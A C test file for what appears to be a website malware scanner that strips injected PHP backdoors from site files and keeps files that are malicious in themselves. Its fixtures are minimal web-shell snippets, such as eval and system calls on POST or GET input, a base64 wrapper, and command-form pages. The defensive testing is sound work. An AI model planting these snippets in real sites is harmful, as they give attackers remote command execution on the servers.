/*
 * Each row is a site's file with something injected, and what it was before; or a file
 * that is malicious by itself, and why it is not mended.
 */

#include "scan/examine.h"
#include "scan/mend.h"
#include "tap.h"

struct row {
    const char *source, *rest; /* rest: NULL when it is not mended */
    enum mend_verdict verdict;
    const char *path; /* NULL: index.php of a site */
};

#define FRONT                                                                                      \
    "/** The front of the site. */\n"                                                              \
    "define('USE_THEMES', true);\n"                                                                \
    "require __DIR__ . '/header.php';\n"
#define FILLER " Say it, and it will be done at once, or a little later, or never, as things are."
#define EVAL "@eval($_POST['x']);"

static void
check_rows(const struct row *rows, size_t count)
{
    struct arena *arena = arena_new(MEND_ARENA_BYTES);
    struct arena *scratch = arena_new(EXAMINE_ARENA_BYTES_MAX);

    for (size_t i = 0; i < count; i++) {
        struct str path = str_from_cstr(rows[i].path ? rows[i].path : "index.php");
        struct subject subject = {
            .path = path,
            .inside = path,
            .source = str_from_cstr(rows[i].source),
            .size_bytes = strlen(rows[i].source),
            .places = subject_places(path),
            .is_in_site = true,
        };
        struct str rest = STR_EMPTY;
        enum mend_verdict verdict = mend_file(&subject, arena, scratch, &rest);

        CHECK_ROW(i, verdict == rows[i].verdict);
        if (verdict != rows[i].verdict)
            printf("# row %zu: %s\n", i, mend_verdict_text(verdict));
        if (rows[i].rest)
            CHECK_STR(rest, rows[i].rest);
        arena_reset(arena);
    }
    arena_free(scratch);
    arena_free(arena);
}

static void
takes_out_what_was_injected(void)
{
    static const struct row rows[] = {
        {"<?php " EVAL " ?><?php\n" FRONT, "<?php\n" FRONT, MEND_DONE, NULL},
        {"<?php\n" EVAL "\n" FRONT, "<?php\n" FRONT, MEND_DONE, NULL},
        {"<?php\n" FRONT EVAL, "<?php\n" FRONT, MEND_DONE, NULL},
        {"<?php\n" FRONT "?>\n<?php " EVAL " ?>\n", "<?php\n" FRONT "?>\n", MEND_DONE, NULL},
        /* On a line with the site's own. */
        {"<?php\nsite_begin(); " EVAL "\n" FRONT, "<?php\nsite_begin(); \n" FRONT, MEND_DONE, NULL},
        /* Statements that prepare it go with it, and so does the condition around it. */
        {"<?php\n$k = 'x';\n$c = $_POST[$k];\n@eval($c);\n" FRONT, "<?php\n" FRONT, MEND_DONE,
         NULL},
        {"<?php\nif (isset($_POST['x'])) {\n" EVAL "\n}\n" FRONT, "<?php\n" FRONT, MEND_DONE, NULL},
        {"<?php\nfunction zq1($a) {\nreturn base64_decode($a);\n}\n$c = "
         "zq1($_POST['x']);\neval($c);\n" FRONT,
         "<?php\n" FRONT, MEND_DONE, NULL},
        /* What the file says of itself stays. */
        {"<?php\n" EVAL "\n/**\n * Title: Footer\n */\n?>\n<div>" FILLER FILLER FILLER "</div>\n",
         "<?php\n/**\n * Title: Footer\n */\n?>\n<div>" FILLER FILLER FILLER "</div>\n", MEND_DONE,
         NULL},
        /* A template is short, and WordPress's. */
        {"<?php\n" EVAL "\nget_header();\n?>\n", "<?php\nget_header();\n?>\n", MEND_DONE, NULL},
        /* Two of them. */
        {"<?php\n" EVAL "\n" FRONT "system($_GET['c']);\n", "<?php\n" FRONT, MEND_DONE, NULL},
        {"<?php\n" EVAL "system($_GET['c']);" EVAL "\n" FRONT, "<?php\n" FRONT, MEND_DONE, NULL},
        /* The same name, but the site sets it anew; and in a function it is another. */
        {"<?php\n$i = $_POST['x']; eval($i);\n" FRONT "$i = 1;\nshow($i);\n",
         "<?php\n" FRONT "$i = 1;\nshow($i);\n", MEND_DONE, NULL},
        {"<?php\n$c = $_POST['x']; eval($c);\n" FRONT "function f($c) {\nreturn $c + 1;\n}\n",
         "<?php\n" FRONT "function f($c) {\nreturn $c + 1;\n}\n", MEND_DONE, NULL},
        /* A page. */
        {"<?php " EVAL " ?>\n<!DOCTYPE html><html><body><p>Our shop is open from nine to five, but "
         "not on Sundays. You find us behind the station, where the market is on Fridays, in the "
         "house with the blue door. Ring twice.</p></body></html>\n",
         "<!DOCTYPE html><html><body><p>Our shop is open from nine to five, but "
         "not on Sundays. You find us behind the station, where the market is on Fridays, in the "
         "house with the blue door. Ring twice.</p></body></html>\n",
         MEND_DONE, NULL},
    };

    check_rows(rows, COUNT(rows));
}

static void
leaves_what_is_malicious_by_itself(void)
{
    static const struct row rows[] = {
        {"<?php " EVAL, NULL, MEND_MIXED, NULL},
        {"<?php\nerror_reporting(0);\n@set_time_limit(0);\n" EVAL "\n", NULL, MEND_NOTHING, NULL},
        {"<?php\nerror_reporting(0);\n$c = $_POST['x'];\neval($c);\n", NULL, MEND_NOTHING, NULL},
        /* Its own page asks for the command. */
        {"<html><body><div>" EVAL "</div><form method=post><input name=x></form></body></html>"
         "<?php " EVAL " ?>",
         NULL, MEND_MIXED, NULL},
        {"<html><body><div>What shall be done?" FILLER
         "</div><form method=post><input name='c'></form>"
         "<?php system($_POST['c']); ?></body></html>",
         NULL, MEND_MIXED, NULL},
        {"<?php\nclass Greeter {\npublic function greet() {\n" EVAL
         "\n}\npublic function name() {\nreturn 'x';\n}\n}\n",
         NULL, MEND_NOTHING, NULL},
        /* Without the file nothing of the site answers. */
        {"<?php\ndefine('DB_PASSWORD', eval($_POST['x']));\n" FRONT, NULL, MEND_NEEDED,
         "wp-config.php"},
        {"<?php\ndefine('PASSWORD', eval($_POST['x']));\n" FRONT, NULL, MEND_MIXED,
         "wp-config.php"},
        /* The rest of the file uses what is malicious. */
        {"<?php\n" FRONT "function run() {\nreturn eval($_POST['x']);\n}\nbegin();\nshow(run());\n",
         NULL, MEND_MIXED, NULL},
        {"<?php\n" FRONT "$r = eval($_POST['x']);\nshow();\nprint($r);\n", NULL, MEND_MIXED, NULL},
        /* Among uploads nothing is the site's own. */
        {"<?php\n" EVAL "\n" FRONT, NULL, MEND_NOTHING, "wp-content/uploads/index.php"},
        /* Nothing accuses it. */
        {"<?php\n" FRONT, NULL, MEND_UNSEEN, NULL},
        {"# no PHP\n", NULL, MEND_NO_PHP, "readme.txt"},
        {"<?php\n" EVAL "\n" FRONT "__halt_compiler();data", NULL, MEND_MIXED, NULL},
    };

    check_rows(rows, COUNT(rows));
}

int
main(void)
{
    static const struct tap_case cases[] = {
        {"takes out what was injected", takes_out_what_was_injected},
        {"leaves what is malicious by itself", leaves_what_is_malicious_by_itself},
    };

    return tap_main(cases, COUNT(cases));
}
